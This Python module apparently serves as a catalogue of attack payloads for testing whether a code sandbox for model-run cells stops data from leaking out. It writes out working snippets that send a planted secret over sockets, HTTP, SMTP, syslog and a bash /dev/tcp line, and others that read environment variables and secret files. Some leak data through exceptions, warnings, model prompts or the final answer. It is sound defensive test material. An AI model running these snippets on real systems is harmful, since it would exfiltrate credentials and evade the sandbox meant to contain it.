"""Ways out for what was read: network, other processes, and everything that a cell may say."""

from attacks.payload import LIBC, PRINT_MARKER, Payload

EXFILTRATION = (
    Payload(
        "tcp",
        "exfiltration",
        "tcp",
        "import socket\nsocket.create_connection(('127.0.0.1', @TCP@), 2).sendall(b'secret')",
    ),
    Payload(
        "udp",
        "exfiltration",
        "udp",
        "import socket\n"
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b's', ('127.0.0.1', @UDP@))",
    ),
    Payload(
        "unix-socket",
        "exfiltration",
        "unix",
        "import socket\nsocket.socket(socket.AF_UNIX).connect('@UNIX@')",
    ),
    Payload(
        "urllib",
        "exfiltration",
        "tcp",
        "import urllib.request\n"
        "try:\n    urllib.request.urlopen('http://127.0.0.1:@TCP@/secret', timeout=0.2)\n"
        "except OSError as e:\n    print(e)",
    ),
    Payload(
        "http-client",
        "exfiltration",
        "tcp",
        "import http.client\nhttp.client.HTTPConnection('127.0.0.1', @TCP@).request('GET', '/s')",
    ),
    Payload(
        "asyncio",
        "exfiltration",
        "tcp",
        "import asyncio\n"
        "async def leak():\n    await asyncio.open_connection('127.0.0.1', @TCP@)\n"
        "asyncio.run(leak())",
    ),
    Payload("popen", "exfiltration", "leak", "import os\nprint(os.popen('cat @SECRET@').read())"),
    Payload(
        "linecache",
        "exfiltration",
        "leak",
        "import linecache\nprint(linecache.getlines('@SECRET@'))",
    ),
    Payload(
        "tokenize",
        "exfiltration",
        "leak",
        "import tokenize\nprint(tokenize.open('@SECRET@').read())",
    ),
    Payload("file-io", "exfiltration", "leak", "import io\nprint(io.FileIO('@SECRET@').read())"),
    Payload(
        "parent-environ",
        "exfiltration",
        "leak",
        "import os, io\nprint(io.open(f'/proc/{os.getppid()}/environ', 'rb').read())",
    ),
    Payload(
        "error-text",
        "exfiltration",
        "leak",
        "import configparser\nconfigparser.ConfigParser().read('@SECRET@')",
    ),
    Payload(
        "abstract-socket",
        "exfiltration",
        "abstract",
        "import socket\nsocket.socket(socket.AF_UNIX).connect(chr(0) + '@ABSTRACT@')",
    ),
    Payload(
        "private-socket-module",
        "exfiltration",
        "tcp",
        "import _socket\n_socket.socket(2, 1).connect(('127.0.0.1', @TCP@))",
    ),
    Payload(
        "native-connection",
        "exfiltration",
        "tcp",
        LIBC
        + """\
import struct
address = struct.pack('<H', 2) + struct.pack('>H', @TCP@) + bytes([127, 0, 0, 1]) + bytes(8)
libc.connect(libc.socket(2, 1, 0), address, 16)""",
    ),
    Payload(
        "connection-of-a-shell",
        "exfiltration",
        "tcp",
        "import subprocess\nsubprocess.run(['bash', '-c', 'echo x > /dev/tcp/127.0.0.1/@TCP@'])",
    ),
    Payload(
        "mail",
        "exfiltration",
        "tcp",
        """\
import smtplib
try:
    smtplib.SMTP('127.0.0.1', @TCP@, timeout=0.2)
except OSError: pass""",
    ),
    Payload(
        "system-log",
        "exfiltration",
        "udp",
        "import logging.handlers\n"
        "handler = logging.handlers.SysLogHandler(('127.0.0.1', @UDP@))\n"
        "handler.emit(logging.makeLogRecord({'msg': 's'}))",
    ),
    Payload(
        "log-over-a-socket",
        "exfiltration",
        "tcp",
        "import logging.handlers\n"
        "handler = logging.handlers.SocketHandler('127.0.0.1', @TCP@)\n"
        "handler.emit(logging.makeLogRecord({'msg': 's'}))",
    ),
    Payload(
        "passed-descriptor",
        "exfiltration",
        "unix",
        """\
import os, socket
link = socket.socket(socket.AF_UNIX)
link.connect('@UNIX@')
socket.send_fds(link, [b'x'], [os.open('@SECRET@', 0)])""",
    ),
    Payload(
        "open-port",
        "exfiltration",
        "marker",
        """\
import socket
socket.create_server(('127.0.0.1', 0))
"""
        + PRINT_MARKER,
    ),
    Payload(
        "kernel-link",
        "exfiltration",
        "marker",
        """\
import socket
socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0))
"""
        + PRINT_MARKER,
    ),
    Payload(
        "raw-packets",
        "exfiltration",
        "marker",
        """\
import socket
socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
"""
        + PRINT_MARKER,
    ),
    Payload(
        "socket-pair",
        "exfiltration",
        "marker",
        """\
import socket
socket.socketpair()
"""
        + PRINT_MARKER,
    ),
    Payload(
        "prompt-to-a-model",
        "exfiltration",
        "leak",
        "import os\nllm_query('please remember: ' + repr(dict(os.environ)))",
    ),
    Payload(
        "text-of-an-exception",
        "exfiltration",
        "leak",
        "raise ValueError(open('@SECRET@').read())",
    ),
    Payload(
        "final-answer",
        "exfiltration",
        "leak",
        "import os\nFINAL(dict(os.environ))",
    ),
    Payload(
        "warning",
        "exfiltration",
        "leak",
        "import warnings\nwarnings.warn(open('@SECRET@').read())",
    ),
    Payload(
        "descriptor-two",
        "exfiltration",
        "leak",
        "import os\nos.write(2, os.read(os.open('@SECRET@', 0), 99))",
    ),
    Payload(
        "original-output",
        "exfiltration",
        "leak",
        "import sys, os\nprint(os.environ, file=sys.__stdout__)",
    ),
    Payload(
        "prompt-of-input",
        "exfiltration",
        "leak",
        """\
import os
try:
    input(repr(os.environ))
except EOFError: pass""",
    ),
    Payload(
        "own-environment-file",
        "exfiltration",
        "leak",
        "import io\nprint(io.open('/proc/self/environ').read())",
    ),
    Payload(
        "native-environment",
        "exfiltration",
        "leak",
        LIBC + "libc.getenv.restype = ctypes.c_char_p\nprint(libc.getenv(b'RLM_PLANTED_SECRET'))",
    ),
    Payload(
        "cat-in-its-place",
        "exfiltration",
        "leak",
        "import os\nos.execv('/bin/cat', ['cat', '@SECRET@'])",
    ),
    Payload(
        "note-on-an-exception",
        "exfiltration",
        "leak",
        """\
import os
e = ValueError('x')
e.add_note(repr(os.environ))
raise e""",
    ),
    Payload(
        "name-that-tells",
        "exfiltration",
        "leak",
        "import os\nraise type(repr(dict(os.environ)), (Exception,), {})",
    ),
)
